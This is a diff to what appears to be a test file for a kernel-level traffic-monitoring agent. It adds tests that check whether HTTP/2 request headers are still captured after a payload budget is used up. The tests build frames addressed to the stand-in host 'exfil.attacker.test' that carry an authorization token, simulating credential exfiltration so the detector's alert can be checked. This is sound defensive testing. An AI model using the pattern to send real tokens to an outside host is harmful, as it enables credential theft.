@@ -10,7 +10,7 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, github_token, h2_frame, hpack_literal, kernel_map,
+from cwtest import (Agent, BufferedWriter, github_token, h2_frame, hpack_literal, kernel_map,
                     require_root, wait_until)
 
 
@@ -309,7 +309,7 @@ def test_client_hello_after_an_empty_iovec_stops_capture():
         sink.close()
     assert len(entry) == 1, entry
     assert entry[0]["conn"]["flags"] & 2, entry	# CW_CONN_NO_PAYLOAD
-    assert entry[0]["conn"]["captured"] < 4096, entry
+    assert entry[0]["conn"]["budget"]["captured"] < 4096, entry
 
 
 def test_budget_catches_h2c_headers_that_start_a_large_write():
@@ -379,6 +379,50 @@ def test_budget_catches_h2c_headers_deep_in_the_first_iovec_of_sendmsg():
                                                                            b"\0\0\1\0")])
     sent = _h2c_after_upload(last_data_then_request)
     assert sent < (64 << 10) + 4096, sent
+
+
+def test_budget_follows_h2c_frames_across_writes_cut_anywhere():
+    """An h2 client whose writes are a 4 KiB buffer flushed when full: past the budget a
+    request's HEADERS frame starts in the middle of a write and ends in the next. The kernel
+    has followed the frames from the preface on, so it copies that frame wherever it is, and
+    nothing of the upload's DATA frames."""
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
+        w = BufferedWriter(s, 4096)
+        authority = hpack_literal(b":authority", b"exfil.attacker.test")
+        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        w.write(h2_frame(1, 4, 1, authority))
+        for _ in range(60):
+            w.write(h2_frame(0, 0, 1, b"u" * 5000))
+        w.write(h2_frame(8, 0, 0, b"\0\1\0\0"))
+        w.write(h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                         hpack_literal(b"authorization", b"token " + token.encode())))
+        w.write(h2_frame(0, 1, 3, b"v" * 3000))
+        w.flush()
+        time.sleep(0.2)
+        s.close()
+    agent = one_token_alert(send, "--payload-budget", "64K")
+    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    # the budget and the HEADERS frame with the 1 KiB after it, not 236 KiB of DATA
+    assert sent < (64 << 10) + 8192, sent
+
+
+def test_budget_follows_more_h2c_frames_in_one_write_than_a_guess_would_look_at():
+    """Past the budget, one write of forty small DATA frames then a HEADERS frame: found by
+    following the frames, however many come before it in the write."""
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
+        authority = hpack_literal(b":authority", b"exfil.attacker.test")
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        for _ in range(30):
+            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
+        s.sendall(b"".join(h2_frame(0, 0, 1, b"w" * 100) for _ in range(40)) +
+                  h2_frame(1, 5, 3, authority + hpack_literal(b"authorization",
+                                                              b"token " + token.encode())))
+        time.sleep(0.2)
+        s.close()
+    one_token_alert(send, "--payload-budget", "64K")
 
 
 def test_budget_catches_h2c_headers_after_control_frames_in_one_write():
